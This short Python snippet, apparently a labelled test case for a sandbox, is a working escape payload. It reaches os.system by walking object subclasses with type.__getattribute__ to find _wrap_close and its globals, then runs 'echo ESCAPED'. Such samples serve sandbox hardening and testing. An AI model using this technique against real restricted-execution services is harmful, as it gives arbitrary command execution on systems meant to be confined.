# kind: attribute-by-name
# effect: prints ESCAPED
type.__getattribute__(int, "__base__").__subclasses__()
lookup = type.__getattribute__
for cls in lookup(object, "__subclasses__")():
    if lookup(cls, "__name__") == "_wrap_close":
        lookup(cls, "close").__globals__["system"]("echo ESCAPED")
